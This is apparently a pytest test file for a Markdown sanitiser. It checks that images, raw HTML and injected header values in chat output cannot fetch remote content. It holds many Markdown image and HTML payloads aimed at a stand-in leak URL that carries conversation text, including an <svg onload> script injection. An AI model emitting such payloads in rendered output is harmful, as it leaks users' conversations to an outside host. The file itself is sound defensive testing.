"""Model output and user text rendered as Markdown load nothing remote (issue 10.3); formatting is kept."""

from __future__ import annotations

import re

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from cfai.safe_markdown import IMAGE_MARK, escape_markdown, inline_code, safe_markdown

EVIL = "http://127.0.0.1:9/leak.png?q=the+conversation"


def unescaped_image_openers(markdown: str) -> list[int]:
    """Positions of `![` not preceded by an odd run of backslashes (what Markdown reads as an image)."""
    hits = []
    for match in re.finditer(r"!\[", markdown):
        backslashes = len(markdown[: match.start()]) - len(markdown[: match.start()].rstrip("\\"))
        if backslashes % 2 == 0:
            hits.append(match.start())
    return hits


@pytest.mark.parametrize("hostile", [
    f"![]({EVIL})",
    f"Here: ![a chart]({EVIL} \"title\") done",
    f"![alt](<{EVIL} with space>)",
    f"![alt][ref]\n\n[ref]: {EVIL}",
    f"![ref][]\n\n[ref]: {EVIL}",
    f"![Ref]\n\n[ref]: {EVIL}",
    f"[![badge]({EVIL})](http://example.com)",
    f"![![nested]({EVIL})]({EVIL})",
    f"\\\\![escaped backslash]({EVIL})",
    f"# Heading ![]({EVIL})\n\n- item ![]({EVIL})\n\n> quote ![]({EVIL})",
    f"| a | b |\n|---|---|\n| ![]({EVIL}) | x |",
    f"`a\n- b ![]({EVIL}) `c`",  # a code span that a paragraph break cuts
    f"- ```\n  code\ntext after the list item ![]({EVIL})",  # the fence ends with its list item
    f"    ```\n![]({EVIL})",  # indented 4: not a fence
])
def test_images_become_links_or_text(hostile):
    out = safe_markdown(hostile)
    assert unescaped_image_openers(out) == [], out


def test_an_image_becomes_a_link_the_user_can_click():
    out = safe_markdown(f"See ![the chart]({EVIL}) and ![]({EVIL})")
    assert out == f"See [{IMAGE_MARK} the chart]({EVIL}) and [{IMAGE_MARK} image]({EVIL})"
    assert safe_markdown(f"![r]\n\n[r]: {EVIL}").startswith(f"[{IMAGE_MARK} r][r]")
    assert safe_markdown("![undefined reference]") == "!\\[undefined reference]"


@pytest.mark.parametrize("html", [
    f'<img src="{EVIL}">', f"<IMG SRC={EVIL}>", f"<picture><source srcset={EVIL}></picture>",
    f"<div style=\"background:url({EVIL})\">x</div>", f"<{EVIL}>", "<svg onload=alert(1)>",
    "<link rel=stylesheet href=http://127.0.0.1:9/x.css>",
])
def test_raw_html_is_escaped(html):
    out = safe_markdown(html)
    assert re.search(r"(?<!\\)<", out) is None, out


def test_formatting_is_kept():
    text = ("# Title\n\nSome **bold**, _emphasis_, `inline <code>`, a [link](https://example.com).\n\n"
            "1. one\n2. two\n   - nested\n\n"
            "```python\nif a < b and '![x](http://e/x.png)':\n    print('<img>')\n```\n\n"
            "~~~\nraw <b> stays\n~~~\n")
    assert safe_markdown(text) == text


def test_code_inside_a_list_item_is_kept():
    text = "1. Run:\n\n   ```sh\n   curl -H 'x: <y>' http://e/x.png\n   ```\n2. Done"
    assert safe_markdown(text) == text


def test_an_unclosed_fence_keeps_the_rest_as_code():
    assert safe_markdown("```\n![](http://e/x.png)") == "```\n![](http://e/x.png)"


def test_an_image_inside_inline_code_is_broken_invisibly():
    out = safe_markdown(f"`![x]({EVIL})`")
    assert out == f"`!\u2060[x]({EVIL})`" and unescaped_image_openers(out) == []


fence_line = re.compile(r"^ {0,3}(`{3,}|~{3,})", re.MULTILINE)


@given(st.text(alphabet="![]()<>`\\ \n\tab:/.'\"=", max_size=80))
def test_no_image_opener_survives_outside_fences(text):
    assume(not fence_line.search(text))
    out = safe_markdown(text)
    assert unescaped_image_openers(out) == []


def test_escape_markdown_makes_header_values_literal():
    hostile = f"HIT] ![x]({EVIL}) :red[boom] **b** <img src={EVIL}>\r\nnext"
    out = escape_markdown(hostile)
    assert "\n" not in out and unescaped_image_openers(out) == []
    assert re.search(r"(?<!\\)[\[\]<:]", out) is None
    assert escape_markdown("x" * 100, max_length=10) == "x" * 9 + "…"


def test_inline_code_holds_any_backticks():
    assert inline_code("a`b") == "``a`b``"
    assert inline_code("`x`") == "`` `x` ``"


def _render_hostile_metrics() -> None:
    from cfai.chat import TurnMetrics
    from components.metrics import request_details, result_metrics

    evil = "http://127.0.0.1:9/h.png"
    result_metrics(TurnMetrics(status=200, route="gateway", model="m", cache_status=f"HIT] ![x]({evil}) :red[",
                               backend=f"sim] ![y]({evil})", total_ms=1.0))
    request_details(url=f"http://127.0.0.1:9/x` ![z]({evil}) `", request_body={})


def test_header_values_in_badges_are_escaped():
    """Issue 10.3: cf-aig-cache-status and cf-emulator-backend come from the server; they cannot close the
    badge or add an image. The request URL is shown as code whatever backticks it holds."""
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_function(_render_hostile_metrics).run()
    assert not at.exception, at.exception
    rendered = [m.value for m in at.markdown]
    badges = next(text for text in rendered if "badge[cache" in text)
    assert unescaped_image_openers(badges) == [], badges
    assert ":gray-badge[cache HIT\\] \\!\\[x\\]" in badges and ":gray-badge[sim\\]" in badges
    url = "http://127.0.0.1:9/x` ![z](http://127.0.0.1:9/h.png) `"
    assert f"**POST** {inline_code(url)}" in rendered, "the URL is one code span, not Markdown"
